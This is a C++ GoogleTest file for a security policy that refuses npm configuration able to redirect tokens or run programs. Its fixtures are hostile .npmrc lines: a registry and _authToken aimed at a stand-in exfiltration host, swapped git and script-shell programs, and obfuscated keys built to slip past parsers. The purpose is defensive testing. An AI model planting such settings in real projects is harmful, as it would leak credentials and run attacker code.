// The token phase refuses a project's npm configuration that would decide
// where the token goes or what runs (policy/token_phase.hpp).
#include <gtest/gtest.h>
#include <sys/stat.h>

#include "policy/token_phase.hpp"
#include "support/temp_dir.hpp"
#include "util/error.hpp"

using namespace airlock::policy;
using airlock::test::TempDir;

namespace {

std::vector<std::string> keys(const std::string& text) {
  std::vector<std::string> out;
  for (const auto& o : npmrc_orders(text)) out.push_back(std::to_string(o.line) + " " + o.key);
  return out;
}

TEST(TokenPhase, RegistriesCredentialsTransportAndProgramsAreOrders) {
  EXPECT_EQ(keys("registry=http://exfil.example/\n"), (std::vector<std::string>{"1 registry"}));
  EXPECT_EQ(keys("fund=false\n@evil:registry = http://x/\n"), (std::vector<std::string>{"2 @evil:registry"}));
  EXPECT_EQ(keys("//exfil.example/:_authToken=${NPM_TOKEN}\n"),
            (std::vector<std::string>{"1 //exfil.example/:_authtoken"}));
  EXPECT_EQ(keys("GIT = ./tools/git\nscript_shell=./x.sh\n\"node-gyp\"=./g\n"),
            (std::vector<std::string>{"1 git", "2 script-shell", "3 \"node-gyp\""}));  // refused as quoted
  EXPECT_EQ(keys("cafile=./ca.pem\nhttps-proxy=http://p/\n_auth=abc\n"),
            (std::vector<std::string>{"1 cafile", "2 https-proxy", "3 _auth"}));
}

TEST(TokenPhase, OrdinarySettingsAndCommentsAreNot) {
  EXPECT_TRUE(keys("fund=false\naudit=false\n; registry=http://x/\n# git=./x\n[section]\nsave-exact=true\n").empty());
}

TEST(TokenPhase, TheRunIsRefusedWithFileAndLine) {
  TempDir project;
  project.write(".npmrc", "fund=false\ngit=./tools/git\n");
  Policy policy;
  policy.process.token_phase = {"npm"};
  try {
    check_token_phase(policy, project.path());
    FAIL() << "accepted";
  } catch (const airlock::Error& e) {
    EXPECT_NE(std::string(e.what()).find(project / ".npmrc:2: git"), std::string::npos) << e.what();
  }
  policy.process.token_phase.clear();
  EXPECT_NO_THROW(check_token_phase(policy, project.path()));
}

// `npm --prefix pkg/sub` or `cd pkg/sub && npm ci` reads pkg/sub/.npmrc.
TEST(TokenPhase, EveryNpmrcInTheProjectIsReadButNotInNodeModules) {
  TempDir project;
  project.write("node_modules/dep/.npmrc", "registry=http://packaged/\n");
  Policy policy;
  policy.process.token_phase = {"npm"};
  EXPECT_NO_THROW(check_token_phase(policy, project.path()));
  project.write("pkg/sub/.npmrc", "registry=http://x/\n");
  EXPECT_THROW(check_token_phase(policy, project.path()), airlock::Error);
}

// Keys ini and npm read in ways a second parser could get wrong are refused.
TEST(TokenPhase, KeysThatCannotBeReadUnambiguouslyAreOrders) {
  for (const char* text : {"\"reg\\u0069stry\"=https://e/\n", "registry;x=https://e/\n", "registry #c=https://e/\n",
                           "re${X?}gistry=https://e/\n", "${NOPE?}registry=https://e/\n"})
    EXPECT_EQ(npmrc_orders(text).size(), 1u) << text;
  // A lone CR ends a line for npm.
  EXPECT_EQ(keys("fund=false\rregistry=https://e/\n"), (std::vector<std::string>{"2 registry"}));
}

TEST(TokenPhase, AFifoIsRefusedNotWaitedOn) {
  TempDir project;
  ASSERT_EQ(::mkfifo((project / ".npmrc").c_str(), 0644), 0);
  Policy policy;
  policy.process.token_phase = {"npm"};
  EXPECT_THROW(check_token_phase(policy, project.path()), airlock::Error);
}

}  // namespace
